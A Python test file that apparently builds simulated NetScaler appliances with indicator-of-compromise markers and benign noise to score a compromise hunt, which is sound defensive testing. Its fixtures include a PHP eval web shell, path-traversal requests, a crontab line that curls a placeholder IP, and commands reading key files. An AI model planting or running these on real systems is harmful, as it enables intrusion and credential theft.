# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Generated appliances with the harmless markers of an attacker, and clean ones with the noise of a working day; the confusion matrix of the hunt on them.

    python -m tests.hunt_fleet [--write]

``--write`` puts the matrix into docs/explanation/observing.md.

The markers and the noise are written from what was published about attacks and scanners, and not from the entries of the catalogue; each names its
source. A marker has the names and words that were published, and does nothing.
"""

from __future__ import annotations

import gzip
import sys
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path

import tests.collection  # isort: skip  # noqa: F401

from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.appliance.nitro.connection import Connection
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.appliance.objects.steps import Step
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.catalogue.entry_file import load_catalogue
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.catalogue.record_trust import RecordTrust
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.lock_content import Lock
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.new_record import start_record
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.record_copies import Copy, file_name
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.record_states import (
    CopyState,
    Outcome,
)
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.known_runs import read_ourselves
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.ourselves import Ourselves
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.hunting.hunt import Hunt

from simulator.server.python_api import ApplianceHandle
from tests import marker_fleet
from tests.marker_fleet import ATTEMPT, COMPROMISE, MESSAGES, REVIEW, UNSEEABLE, Marker, Plant, data, file, line
from tests.stage.memory import CATALOGUE, Stage

ENTRIES = load_catalogue(CATALOGUE.parent)
PACKED = b'127.0.0.1 - - [18/Jan/2020:00:15:29 +0000] "GET /vpn/../vpns/portal/12345678.xml HTTP/1.1" 200 71875 "-" "x"'
VERIEXEC = "Sep 20 01:02:03 <kern.crit> ns kernel: MAC/veriexec: no fingerprint (file=/var/tmp/x fsid=1 fileid=2 ppid=1 gppid=0)"
MEMORY = (
    b"Jul  9 01:02:03 <local0.debug> 10.1.1.1 0-PPE-0 : default AAA Message 1 0 : "
    b"Authentication is rejected for \x80\xfe\x01\n"
)
COMMAND = (
    "Jan 19 23:00:06 <local0.info> 10.1.1.1 01/19/2020:23:00:06 GMT ns 0-PPE-0 : default CLI CMD_EXECUTED 1 0 : "
    'User nsroot - Remote_ip 10.9.9.9 - Command "show ns config" - Status "Success"'
)
NOTROBIN = {"user": "nobody", "command": "httpd", "pid": 1351, "descriptor": 3, "protocol": "udp4", "local": "*:18634"}
BUILDS = (
    "11.1 63.14",
    "12.0 63.13",
    "12.1 55.18",
    "13.0 47.22",
    "13.0 92.19",
    "13.1 49.15",
    "13.1 64.29",
    "14.1 47.48",
    "14.1 73.46",
)
LEVELS = (COMPROMISE, ATTEMPT, REVIEW)
BASH, ACCESS, NS_LOG = "/var/log/bash.log", "/var/log/httpaccess.log", "/var/log/ns.log"


def shell(command: str, user: str = "root", tty: str = "(null)") -> Plant:
    return line(BASH, f'Jan 19 23:40:14 <local7.notice> ns bash[3632]: {user} on {tty} shell_command="{command}"')


def request(text: str, status: int = 200, source: str = "198.51.100.7", agent: str = "curl/7.58.0") -> Plant:
    return line(ACCESS, f'{source} - - [18/Jan/2020:00:15:29 +0000] "{text} HTTP/1.1" {status} 71875 "-" "{agent}"')


FEYE, M3519, WAVE, NCSC = (
    "ioc-scanner-CVE-2019-19781",
    "citrix-ioc-scanner-cve-2023-3519",
    "lists of autumn 2026",
    "citrix-2025",
)
UNROTATED = (
    # ioc-scanner-CVE-2019-19781
    Marker("crontab of nobody", COMPROMISE, "/var/cron/tabs/nobody", file("/var/cron/tabs/nobody", "0 0 1 1 * true\n")),
    Marker("template", COMPROMISE, "/netscaler/portal/templates/a1.xml", file("/netscaler/portal/templates/a1.xml")),
    Marker("compiled template", COMPROMISE, "/var/tmp/netscaler/portal/templates", file("/var/tmp/netscaler/portal/templates/a.xml.ttc2")),
    Marker("NOTROBIN", COMPROMISE, "/var/nstmp/.nscache/httpd", file("/var/nstmp/.nscache/httpd")),
    Marker("miner", COMPROMISE, "/var/tmp/netscalerd", file("/var/tmp/netscalerd")),
    Marker("script of ISC", COMPROMISE, "PersonalBookmak.pl", file("/netscaler/portal/scripts/PersonalBookmak.pl")),
    Marker("bookmark that is no xml", COMPROMISE, "/var/vpn/bookmark/a.pl", file("/var/vpn/bookmark/a.pl", "# pwnpzi1337\n")),
    Marker("bookmark", COMPROMISE, "/var/vpn/bookmark/u.xml", file("/var/vpn/bookmark/u.xml", "<x>template.new('x')</x>")),
    Marker("shell of nobody", COMPROMISE, BASH, shell("uname -a", "nobody")),
    Marker("history", COMPROMISE, BASH, shell("tee /netscaler/portal/x")),
    Marker("cron log", COMPROMISE, "/var/log/cron", line("/var/log/cron", "Jan 19 23:00:06 <cron.info> ns /usr/sbin/cron[1]: (nobody) CMD (ls /)")),
    Marker("successful request", COMPROMISE, ACCESS, request("GET /vpn/../vpns/portal/s12345678s.xml")),
    Marker("request in a rotated log", COMPROMISE, "httpaccess.log.3.gz", data("/var/log/httpaccess.log.3.gz", gzip.compress(PACKED))),
    Marker("scanned", ATTEMPT, ACCESS, request("GET /vpn/../vpns/cfg/smb.conf")),
    Marker("failed request", ATTEMPT, ACCESS, request("GET /vpn/../vpns/portal/scripts/newbm.pl", 404)),
    Marker("error log", COMPROMISE, "/var/log/httperror.log", line("/var/log/httperror.log", "chmod: /tmp/.init/httpd: No such file or directory")),
    # citrix-ioc-scanner-cve-2023-3519, citrix-netscaler-triage
    Marker("theme.php", COMPROMISE, "/var/vpn/theme/.theme.php", file("/var/vpn/theme/.theme.php", "<?php\n")),
    Marker("web shell", COMPROMISE, "/var/vpn/themes/a.php", file("/var/vpn/themes/a.php", "<?php eval($_POST['x']); ?>\n")),
    Marker("php among pages", COMPROMISE, "/uiareas/", file("/var/netscaler/logon/LogonPoint/uiareas/linux/p.php", "<?php\n")),
    Marker("staged file", REVIEW, "/var/vpn/themes/x.js", file("/var/vpn/themes/x.js")),
    Marker("tunnel", COMPROMISE, "/var/tmp/npc", file("/var/tmp/npc")),
    Marker("keys read", COMPROMISE, BASH, shell("cat /flash/nsconfig/keys/updated/F1.key")),
    # citrix-2025 of NCSC-NL
    Marker("start-up file", COMPROMISE, "/nsconfig/rc.netscaler", file("/nsconfig/rc.netscaler", "python3 -c 1\n")),
    Marker("backwards", COMPROMISE, "/nsconfig/x.conf", file("/nsconfig/x.conf", "php.xedni\n")),
    Marker("httpd.conf", COMPROMISE, "/nsconfig/httpd.conf", file("/nsconfig/httpd.conf", "# php_flag engine off\n")),
    Marker("core file", REVIEW, "/var/core/1/NSPPE-00", file("/var/core/1/NSPPE-00-123.gz")),
    # lists of autumn 2026
    Marker("x.php", COMPROMISE, "/var/vpn/theme/x.php", file("/var/vpn/theme/x.php", "<?php\n")),
    Marker("receiver", COMPROMISE, "/custom/.slap.receiver", file("/var/netscaler/logon/LogonPoint/custom/.slap.receiver")),
    Marker("hidden directory", COMPROMISE, "/var/tmp/.nsmon/nsmon.pl", file("/var/tmp/.nsmon/nsmon.pl")),
    Marker("engine on", COMPROMISE, "/etc/httpd.conf", file("/etc/httpd.conf", "php_flag engine on\n")),
    Marker("alias", REVIEW, "/nsconfig/httpd.conf", file("/nsconfig/httpd.conf", "AliasMatch ^/x /var/x\n")),
    Marker("nsafter.sh", REVIEW, "/nsconfig/nsafter.sh", file("/nsconfig/nsafter.sh", "true\n")),
    Marker("armed line", ATTEMPT, NS_LOG, line(NS_LOG, "Sep 20 01:02:03 <local0.info> 10.1.1.1 nsaaad[1]: call to authenticate user :pitboss NSPPE; x")),
    Marker("integrity message", REVIEW, "/var/log/messages", line(MESSAGES, VERIEXEC)),
    Marker("job that fetches", REVIEW, "/nsconfig/crontab", file("/nsconfig/crontab", "0 0 1 1 * root cd /; curl http://192.0.2.66/x\n")),
    # CVE-2025-5777
    Marker("memory in a log", COMPROMISE, NS_LOG, data(f"{NS_LOG}.7", MEMORY)),
    # CVE-2020-8193
    Marker("file download", ATTEMPT, ACCESS, request("POST /rapi/filedownload?filter=path:%2Fetc%2Fpasswd", 406)),
    # Only a shell shows these.
    Marker("setuid shell", UNSEEABLE, "permissions", lambda box: box.write_file("/bin/sh", "x", mode="6555", owner="root", group="wheel")),
    Marker("process of nobody", UNSEEABLE, "processes", lambda box: box.processes([{"user": "nobody", "pid": 1351, "command": "/tmp/x"}])),
    Marker("port of NOTROBIN", UNSEEABLE, "ports", lambda box: box.sockets([NOTROBIN])),
)  # fmt: skip
LOGS = (
    "shell of nobody",
    "history",
    "cron log",
    "successful request",
    "scanned",
    "failed request",
    "error log",
    "keys read",
    "armed line",
    "integrity message",
    "file download",
)
"""The markers that are one line of a log: each is planted in a part that has been turned over too."""
MARKERS = (
    *UNROTATED,
    *(
        marker_fleet.rotated(next(one for one in UNROTATED if one.name == name), number)
        for number, name in enumerate(LOGS)
    ),
)


def installation(box: ApplianceHandle) -> None:
    marker_fleet.upgrade(box)
    box.log(
        "/var/log/notice.log",
        'Jan 19 23:00:06 <local7.notice> ns bash[1]: root on /dev/pts/0 shell_command="./installns"',
    )


def administrators(box: ApplianceHandle) -> None:
    for command in (
        "whoami",
        "ldapsearch -H ldaps://dc",
        "cat /flash/nsconfig/keys",
        "ls /flash/nsconfig/ns.conf",
        "openssl des3 -in x",
    ):
        shell(command, "root", "/dev/pts/0")(box)
    box.log(NS_LOG, COMMAND)
    marker_fleet.files_of_administrators(box)


def scanners(box: ApplianceHandle) -> None:
    """They find themselves in bash.log (ioc-scanner-CVE-2019-19781 issues 10, 12 and 24); those from outside leave requests."""
    for word in ("eternalblue.replay", "www.jdjd.com", "/flash/nsconfig/keys", "tee /netscaler/portal"):
        shell(f"grep -rF '{word}' /var/log")(box)
    request("GET /vpn/../vpns/cfg/smb.conf", 403)(box)
    request("GET /vpns/portal/x.xml", 404, agent="Nessus")(box)


def syslog_quiet(box: ApplianceHandle) -> None:
    """A log that has just turned over."""
    box.write_file(NS_LOG, "Jan 19 23:00:06 ns newsyslog[1]: logfile turned over due to size>100K\n")


NOISE: tuple[Plant, ...] = (
    marker_fleet.theme_edit(
        "function show() { return base64 + String.fromCharCode(65); }\n",
        "/var/netscaler/logon/themes/own/file{}.js",
        "/var/netscaler/logon/LogonPoint/custom/strings.{}.js",
    ),
    installation,
    administrators,
    scanners,
    syslog_quiet,
)
TOLD: dict[Plant, Sequence[tuple[str, str]]] = {
    administrators: ((REVIEW, "/root/.ssh/authorized_keys"), (REVIEW, "/var/vpn/bookmark/bm_prefix_"), (REVIEW, BASH)),
    scanners: ((ATTEMPT, ACCESS), (REVIEW, BASH)),
}


def right(_one: marker_fleet.Planned, marker: Marker) -> Sequence[str]:
    """A marker may be found at a more urgent level than its own."""
    return LEVELS[: LEVELS.index(marker.level) + 1] if marker.level in LEVELS else (UNSEEABLE,)


POPULATION = marker_fleet.Population(
    MARKERS, BUILDS, NOISE, LEVELS, lambda found: found.where + found.evidence, right, TOLD
)
RUN = "a1b2c3d4e5"


class Ours:
    """The records of this control node, with what its run leaves on an appliance."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        step = Step("responderpolicy", ("tq_demo",), None, {"name": "tq_demo", "rule": "true", "action": "NOOP"})
        facts = {"measure": "demo", "version": 2, "kind": "apply", "run": RUN, "build": "NS13.0: Build 47.22.nc"}
        self.record = start_record(directory, "box", (step,), facts)
        self.record.finish(Outcome.APPLIED)
        self.probed = datetime.now(UTC)

    def known(self) -> Ourselves:
        """Return what a hunt takes for ours."""
        return read_ourselves(self.directory, "box", RecordTrust(), ["nsroot"], ["192.0.2.1"])

    def leave(self, box: ApplianceHandle) -> None:
        words = dict.fromkeys(("owner", "holder", "measure", "reason", "ticket", "token"), "x")
        lock = Lock(**words, run=RUN, taken=None, expires=None).to_bytes()
        box.write_file("/var/tmp/tourniquet_lock_2.txt", lock.decode())
        copy = Copy.of(self.record).to_bytes().decode()
        box.write_file(f"/var/tmp/{file_name(self.record.name, CopyState.ENDED)}", copy)
        box.log(
            ACCESS,
            f'192.0.2.1 - - [{self.probed:%d/%b/%Y:%H:%M:%S} +0000] "GET /vpn/../vpns/portal/x.xml HTTP/1.1" 200 1 "-" "tourniquet-probe/{RUN}"',
        )


def play(stride: int = 1, size: int = marker_fleet.SIZE) -> marker_fleet.Outcomes:
    """Hunt on one of so many of the generated appliances."""
    with POPULATION.started() as stages:
        ours = Ours(next(iter(stages.values())).records)
        own = ours.known()

        def look(stage: Stage) -> marker_fleet.Looked:
            with Connection(stage.appliance) as connection:
                found = Hunt("box", ENTRIES, own).look(connection)
            examined = found.examined
            wrong = "" if found.own == {"files": 2, "requests": 1} else f"what is ours was not recognised: {found.own}"
            return marker_fleet.Looked(examined, len(connection.exchanges), dict(examined.looked_at)["bytes"], wrong)

        return POPULATION.looked_at(stages, look, stride, size, before=ours.leave)


if __name__ == "__main__":
    sys.exit(marker_fleet.report(play(), "hunt"))
